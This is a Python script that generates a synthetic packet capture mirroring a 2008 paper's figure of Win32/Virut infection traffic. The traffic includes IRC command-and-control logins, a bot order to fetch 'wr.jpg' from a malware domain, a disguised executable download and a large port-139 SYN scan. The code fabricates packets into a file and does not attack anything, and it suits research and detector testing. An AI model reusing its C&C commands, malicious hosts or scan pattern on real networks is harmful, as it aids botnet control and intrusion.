#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""figure1.py OUT: a capture of the same shape as Figure 1 of Mizutani, Takeda and Murai (2008).

A machine infected by Win32/Virut: the same addresses, ports, times, messages, session ids and counts
as the figure's rows, and the spread scan of 168,426 sessions that it rolls up. Sessions 1 to 3, which
the figure does not show, are boot noise: ARP, DHCP, and the DNS query for the first server.
"""
import random
import struct
import sys

import flows
import pcapgen as pg
import protocols as proto

VICTIM, GATEWAY, DNS = "192.168.0.101", "192.168.0.1", "10.0.0.2"
VIRUT, WEB, SDBOT = "115.126.2.121", "115.126.2.120", "63.173.172.98"
SSDP = "239.255.255.250"

SCAN_SESSIONS = 168426
SCAN_START, SCAN_END = 4.039, 4.039 + 59 * 60 + 41.13
SCAN_FIRST_TARGET = "192.168.231.125"
SCAN_PORT = 139
FIRST_PORT, LAST_PORT = 1034, 5000  # Windows XP's ephemeral ports, above those in use
OPEN_TARGETS = (5000, 60000, 120000)  # scan sessions that are accepted, then closed empty
REFUSED_EVERY = 4001  # of every so many, one target answers with RST


def boot(capture):
    """Sessions 1 to 3."""
    capture.add(0.000, pg.arp(1, VICTIM, GATEWAY))
    capture.add(0.001, pg.arp(2, GATEWAY, VICTIM))
    inform = proto.dhcp_inform(VICTIM, "lab-xp", pg.mac(VICTIM))
    flows.datagram(capture, 0.050, ((VICTIM, 68), ("255.255.255.255", 67)), inform)
    dns(capture, (0.120, 0.340), 1, "proxim.ircgalaxy.pl", VIRUT)


def dns(capture, times, ident, name, address):
    ends = ((VICTIM, 1030), (DNS, 53))
    flows.datagram(capture, times[0], ends, proto.dns_query(ident, name))
    flows.datagram(capture, times[1], ends[::-1], proto.dns_answer(ident, name, [address]))


def connection(capture, ports, server, times):
    """Handshake at TIMES (SYN, SYN-ACK, ACK) without anything more."""
    link = flows.Tcp(capture, ((VICTIM, ports[0]), (server, ports[1])), 0, step=0, acks=False)
    link.now = times[0]
    link.syn()
    link.seq[0] += 1
    link.now = times[1]
    link.segment(1, pg.SYN | pg.ACK)
    link.seq[1] += 1
    link.now = times[2]
    link.segment(0, pg.ACK)
    return link


def say(link, time, side, data):
    link.now = time
    link.send(side, data)


def acknowledge(link, time, side):
    link.now = time
    link.segment(side, pg.ACK)


def shares(total, count):
    """COUNT whole numbers that add up to TOTAL and differ by one at most."""
    return [total * (i + 1) // count - total * i // count for i in range(count)]


def command(verb, length):
    """A line of LENGTH bytes: VERB, then filler, then the line's end."""
    end = b"\r\n" if length >= len(verb) + 2 else b"\n"
    return (verb + b" :").ljust(length, b"n")[: length - len(end)] + end


def keep_alive(link, spans, sizes, extra_acks):
    """PING from the server and PONG back, each with an ACK of the PONG, spread over SPANS (first and
    last time): SIZES are the bytes of all pings and of all pongs. The first EXTRA_ACKS pings are
    acknowledged before they are answered."""
    rounds = len(sizes[0])
    for i, (ping, pong) in enumerate(zip(*sizes)):
        last = i == rounds - 1
        end = spans[1] if last else spans[0] + (spans[1] - spans[0]) * i / (rounds - 1) + 0.5
        say(link, end - 0.4, 1, command(b"PING", ping))
        if i < extra_acks:
            acknowledge(link, end - 0.3, 0)
        say(link, end - 0.2, 0, command(b"PONG", pong))
        acknowledge(link, end, 1)


def session4(capture):
    """706 byte in 71 packets out, 359 byte in 104 packets back, until 3638.687."""
    link = connection(capture, (1031, 65520), VIRUT, (0.357, 0.450, 0.4505))
    nick, join = b"NICK aihrwjcjh\nUSER r020501 . . :-", b"\nJOIN &virtu\n"
    order = b":* PRIVMSG aihrwjcjh :!get http://ntkrnlpa.cn/wr.jpg\r\n"
    say(link, 0.557, 0, nick)
    acknowledge(link, 0.700, 1)
    say(link, 0.858, 0, join)
    acknowledge(link, 1.000, 1)
    say(link, 1.607, 1, order)
    acknowledge(link, 1.800, 0)
    pings = shares(359 - len(order), 50)
    pongs = shares(706 - len(nick) - len(join), 50)
    keep_alive(link, (60.0, 0.357 + 3638.33), (pings, pongs), 16)


def session6(capture):
    """529 byte in 26 packets out, 1485 byte in 42 packets back, until 3585.290."""
    link = connection(capture, (1032, 6668), SDBOT, (2.780, 3.060, 3.0605))
    bot, mask = b"SR1-114487528", b"vkrngphfu@60-62-214-163.rev.home.ne.jp"
    more = b"MODE " + bot + b" +x+i\r\nJOIN #cc dcpass\r\n"
    ask = b"USERHOST " + bot + b"\r\n"
    join = b":" + bot + b"!" + mask + b" JOIN :#cc\r\n"
    lines = [
        (3.067, 0, b"NICK " + bot + b"\r\nUSER vkrngphfu 0 :" + bot + b"\r\n"),
        (3.359, 1, b":ns1.xxx.us 001 " + bot + b" :Cisco \r\n:ns1.xxx.us 005 " + bot),
        (3.359, 0, ask),
        (3.651, 1, b":ns1.xxx.us 302 " + bot + b" :" + bot + b"+=" + mask + b" \r\n"),
        (3.651, 0, more + ask + more),
        (3.940, 1, join + b":ns1.xxx.us 332 " + bot + b" #cc :xvv asn139 150 0 -b -r -s\r"),
    ]
    for time, side, data in lines:
        say(link, time, side, data)
    acknowledge(link, 4.100, 0)  # the figure's last row stands at 4.518: the rest comes later
    said = [sum(len(data) for _, side, data in lines if side == want) for want in (0, 1)]
    rest = (
        b"\n:ns1.xxx.us 333 "
        + bot
        + b" #cc x 1201824000\r\n:ns1.xxx.us 366 "
        + bot
        + b" #cc :End\r\n"
    )
    say(link, 5.150, 1, rest)
    acknowledge(link, 5.300, 0)
    rounds = 18
    for i in range(42 - 1 - 3 - 1 - 2 * rounds):
        acknowledge(link, 5.310 + i / 1000, 1)
    pings = shares(1485 - said[1] - len(rest), rounds)
    pongs = shares(529 - said[0], rounds)
    keep_alive(link, (70.0, 2.780 + 3582.51), (pings, pongs), 26 - 2 - 3 - 2 - rounds)


def session7(capture):
    """The executable behind wr.jpg: 37974 bytes that claim to be a picture."""
    link = connection(capture, (1033, 80), WEB, (2.858, 3.000, 3.0005))
    say(link, 3.010, 0, proto.http_request("ntkrnlpa.cn", "/wr.jpg"))
    answer = proto.http_response(proto.pe(37974), "image/jpeg")
    link.acks, link.now, link.step = True, 3.200, 0.012
    link.send(1, answer)
    link.now, link.step = 4.500, 0.036
    link.close(1)


def targets():
    """Distinct addresses of 192.0.0.0/8 in an order that looks random: a full-period generator over
    24 bits (Hull and Dobell), its bytes swapped so that the host part changes most."""
    first = pg.packed(SCAN_FIRST_TARGET)
    state = int.from_bytes(bytes((first[3], first[2], first[1])), "big")
    while True:
        host, third, second = state.to_bytes(3, "big")
        own_net = second == 168 and third == 0
        if 0 < host < 255 and not own_net:
            yield "192.%d.%d.%d" % (second, third, host)
        state = (state * 1140671485 + 12820163) & 0xFFFFFF


def scan_times():
    """Ten before the DNS query at 4.518 s, the rest at an even, slightly unsteady pace."""
    steady = random.Random(139)
    for i in range(10):
        yield SCAN_START + i * 0.047
    count = SCAN_SESSIONS - 10
    first, last = 4.530, SCAN_END
    pace = (last - first) / (count - 1)
    for i in range(count):
        shake = 0 if i in (0, count - 1) else steady.uniform(-0.4, 0.4)
        yield first + pace * (i + shake)


def syn_maker():
    """A function (target, port, seq) -> SYN frame that changes only what differs between two."""
    base = pg.frame(
        pg.ip4(
            VICTIM,
            "192.0.0.0",
            pg.TCP,
            pg.tcp(
                (VICTIM, 0),
                ("192.0.0.0", SCAN_PORT),
                0,
                0,
                pg.SYN,
                tcp_options=b"\x02\x04\x05\xb4\x01\x01\x04\x02",
            ),
            flags=0x4000,
        )
    )
    base = pg.mac(GATEWAY) + base[6:]
    head, ip_sum, tcp_sum = base[:24], _plain_sum(base[14:34], 10), 0
    tcp_sum = _plain_sum(base[34:], 16) + sum(struct.unpack("!4H", base[26:34])) + pg.TCP + 28
    tail = base[46:50]

    def make(target, port, seq):
        words = struct.unpack("!2H", target)
        extra = sum(words) - 0xC000
        network = head + struct.pack("!H", _folded(ip_sum + extra)) + base[26:30] + target
        total = tcp_sum + extra + port + (seq >> 16) + (seq & 0xFFFF)
        transport = struct.pack("!HHII", port, SCAN_PORT, seq, 0) + tail
        return network + transport + struct.pack("!H", _folded(total)) + base[52:]

    return make


def _plain_sum(header, checksum_at):
    blank = header[:checksum_at] + b"\0\0" + header[checksum_at + 2 :]
    return sum(struct.unpack("!%dH" % (len(blank) // 2), blank))


def _folded(total):
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def scan(capture):
    make, names = syn_maker(), targets()
    span = LAST_PORT - FIRST_PORT + 1
    for i, time in enumerate(scan_times()):
        target = next(names)
        port, seq = FIRST_PORT + i % span, i * 2654435761 & 0xFFFFFFFF
        raw = bytes(map(int, target.split(".")))
        capture.frames.append((round(time * 1000000), make(raw, port, seq)))
        if i in OPEN_TARGETS or i % REFUSED_EVERY == REFUSED_EVERY - 1:
            answer(capture, time, ((VICTIM, port), (target, SCAN_PORT), seq), i in OPEN_TARGETS)


def answer(capture, time, attempt, accepted):
    """What follows a SYN that meets a host: accepted and closed empty, or refused."""
    client, server, seq = attempt
    link = flows.Tcp(capture, (client, server), time + 0.03, isn=(seq, 7000))
    if not accepted:
        link.refuse()
        return
    link.seq[0] += 1
    link.segment(1, pg.SYN | pg.ACK)
    link.seq[1] += 1
    link.segment(0, pg.ACK)
    link.close()


def build():
    """The shape of the paper's Figure 1."""
    capture = pg.Capture()
    boot(capture)
    session4(capture)
    dns(capture, (2.375, 2.855), 2, "ntkrnlpa.cn", WEB)
    session6(capture)
    session7(capture)
    flows.datagram(capture, 3.097, ((VICTIM, 1028), (SSDP, 1900)), proto.ssdp_search())
    scan(capture)
    dns(capture, (4.518, 4.848), 3, "wrsnav.wwlax.com", "62.90.134.24")
    return capture


def main():
    if len(sys.argv) != 2 or sys.argv[1].startswith("-"):
        sys.exit("usage: figure1.py OUT")
    build().write(sys.argv[1])


if __name__ == "__main__":
    main()
